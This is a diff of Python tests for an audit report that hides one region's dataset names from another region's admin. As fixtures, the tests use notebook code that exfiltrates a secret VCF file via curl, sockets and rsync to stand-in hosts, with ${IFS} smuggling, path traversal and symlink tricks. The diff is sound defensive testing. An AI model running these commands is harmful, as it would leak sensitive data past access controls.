@@ -531,7 +531,8 @@ def test_a_region_admin_sees_their_regions_accesses_with_the_code_and_nothing_el
 
 def test_a_cell_that_names_two_regions_data_shows_each_admin_only_their_own(reported):
     """Invariant 6 from the report's side: the cell's code and a program's command line name both
-    regions' data; each admin's report hides the other region's paths and dataset names, and says so."""
+    regions' data; each admin's report hides the other region's dataset names (and its files named after
+    them), and says so."""
     alice = Caller("alice", "cardio-gwas")
     code = ("a = open('/data/syd/syd-cohort/syd-cohort.vcf.gz').read()\n"
             "b = open(\"/data/norr/norr-cohort/norr-cohort.vcf.gz\").read()\n"
@@ -545,6 +546,7 @@ def test_a_cell_that_names_two_regions_data_shows_each_admin_only_their_own(repo
         {"action": "process.exec", "path": "/data/syd/syd-cohort/x.txt", "detail": {"msg_id": "m-two", "argv": argv}},
         {"action": "process.exec", "path": "/data/norr/norr-cohort/y.txt", "detail": {"msg_id": "m-two", "argv": argv}},
     ], None))
+    hidden = OtherRegions.HIDDEN_DATASET
     for region, own, other in (("syd", "syd-cohort", "norr-cohort"), ("norr", "norr-cohort", "syd-cohort")):
         rows = [r for r in region_report(reported.audit, reported, f"admin-{region}", region)
                 if r["detail"].get("msg_id") == "m-two"]
@@ -552,44 +554,41 @@ def test_a_cell_that_names_two_regions_data_shows_each_admin_only_their_own(repo
         for fmt in FORMATS:
             text = render(rows, fmt, region)
             assert other not in text.replace(f"{other}s", ""), (region, fmt)
-            assert f"/data/{'norr' if region == 'syd' else 'syd'}/" not in text, (region, fmt)
             assert own in text
         for r in rows:
-            assert f"/data/{region}/{own}/" in r["code"] and OtherRegions.HIDDEN_PATH in r["code"]
-            assert OtherRegions.HIDDEN_DATASET in r["code"] and "norr-cohorts" in r["code"]
+            assert f"/data/{region}/{own}/{own}.vcf.gz" in r["code"]
+            assert r["code"].count(hidden) == 4 and "norr-cohorts" in r["code"]
             assert "other regions' data named here are hidden" in r["flag"]
         (run,) = [r for r in rows if r["action"] == "process.exec"]
-        assert run["detail"]["argv"][0] == "cat" and OtherRegions.HIDDEN_PATH in run["detail"]["argv"]
+        other_region = "norr" if region == "syd" else "syd"
+        assert {a for a in run["detail"]["argv"] if other_region in a} < {f"/data/{other_region}/{hidden}/x.txt",
+                                                                           f"//data/{other_region}/{hidden}/y.txt"}
     stored = [r for r in reported.audit.records(action="query.execute") if r.detail.get("msg_id") == "m-two"]
     assert stored[0].detail["code"] == code  # hidden in the report only: the chain keeps what ran
 
 
 def test_hiding_another_regions_data_cannot_hide_the_readers_own(reported):
-    """What a cell cannot use the hiding for: a path that leads into syd through norr's name, or a command
-    line that names norr's data first, still shows syd's admin what was done with syd's data. Files named
-    after a dataset, and paths spelt another way, are hidden from the other region's admin."""
+    """A path's text cannot say where it leads (a link the member made, ``..`` after one, percent-encoding),
+    so nothing of a path is hidden but another region's dataset names: whatever a cell writes, syd's admin
+    reads what it did with syd's data, and where it sent it."""
     alice = Caller("alice", "cardio-gwas")
     code = ("!cat${IFS}/data/norr/norr-cohort/a;curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example\n"
             "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'; open(p)\n"
             "q = '/data/norr/norr-cohort/a,/data/syd/syd-cohort/b.vcf'.split(',')\n"
             "os.chdir('/data/./norr/norr-cohort'); v = VariantFile('norr-cohort.vcf.gz')\n"
-            "w = open('norr-cohort_filtered.tsv', 'w')\n"
             "!curl -s file:///data/norr/norr-cohort/..%2F..%2Fsyd%2Fsyd-cohort%2Fsecret.vcf | curl -T - x.example\n"
-            "!ln -s /data/syd /project/q/data/norr; cat /project/q/data/norr/syd-cohort/secret.vcf")
+            "open(home + '/data/norr/syd-cohort/secret.vcf'); open('/data/norr/../../proc/self/cwd/../data/norr/s')\n"
+            "sock.connect(('norr-cohort.evil.example', 443)); !rsync /data/syd/syd-cohort/ norr-cohort_x.example:/x")
     reported.audit.append_many(build_records(alice, [
         {"action": "query.execute", "detail": {"msg_id": "m-hide", "code": code}},
         {"action": "file.open", "path": "/data/syd/syd-cohort/secret.vcf", "detail": {"msg_id": "m-hide"}}], None))
     (row,) = [r for r in region_report(reported.audit, reported, "admin-syd", "syd")
               if r["detail"].get("msg_id") == "m-hide"]
-    assert "curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example" in row["code"]
-    assert "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'" in row["code"]
-    assert ",/data/syd/syd-cohort/b.vcf'" in row["code"]
-    assert "..%2F..%2Fsyd%2Fsyd-cohort%2Fsecret.vcf | curl" in row["code"]  # a URL reader decodes it: syd's
-    assert "cat /project/q/data/norr/syd-cohort/secret.vcf" in row["code"]  # not a path into /data
-    assert "norr-cohort" not in row["code"] and "/data/./norr" not in row["code"]
-    # hidden whole: /data/./norr/norr-cohort and the list's norr path; only the dataset's name: after ${IFS}
-    # (not where a word starts), in the URL that leads into syd, and the two bare file names
-    assert row["code"].count(OtherRegions.HIDDEN_PATH) == 2 and row["code"].count(OtherRegions.HIDDEN_DATASET) == 4
+    hidden = OtherRegions.HIDDEN_DATASET
+    assert row["code"] == (code.replace("/norr-cohort/", f"/{hidden}/").replace("/norr-cohort'", f"/{hidden}'")
+                           .replace("'norr-cohort.vcf.gz'", f"'{hidden}'"))
+    assert "'norr-cohort.evil.example'" in row["code"] and "norr-cohort_x.example:/x" in row["code"]
+    assert "/data/norr/syd-cohort/secret.vcf" in row["code"]
 
 
 def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
@@ -599,8 +598,9 @@ def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
         leaf["a"] = {}
         leaf = leaf["a"]
     leaf["p"] = "/data/syd/syd-cohort/x"
+    code = "/" * 200_000 + "data/syd/syd-cohort/" + "a." * 100_000 + " " + "-" * 200_000
     reported.audit.append_many(build_records(alice, [
-        {"action": "query.execute", "detail": {"msg_id": "m-deep", "code": "/" * 200_000 + "data/syd/x"}},
+        {"action": "query.execute", "detail": {"msg_id": "m-deep", "code": code}},
         {"action": "file.open", "path": "/data/norr/norr-cohort/x", "detail": {"msg_id": "m-deep", "deep": deep}}],
         None))
     (row,) = [r for r in region_report(reported.audit, reported, "admin-norr", "norr")
@@ -608,9 +608,10 @@ def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
     leaf = row["detail"]["deep"]
     while "a" in leaf:
         leaf = leaf["a"]
-    assert leaf == {"p": OtherRegions.HIDDEN_PATH} and row["code"].endswith(OtherRegions.HIDDEN_PATH)
+    hidden = OtherRegions.HIDDEN_DATASET
+    assert leaf == {"p": f"/data/syd/{hidden}/x"} and row["code"] == code.replace("syd-cohort", hidden)
     for fmt in FORMATS:
-        assert "syd" not in render([row], fmt, "norr")
+        assert "syd-cohort" not in render([row], fmt, "norr")
 
 
 def test_an_access_attributed_to_a_cell_that_never_ran_is_flagged(reported):
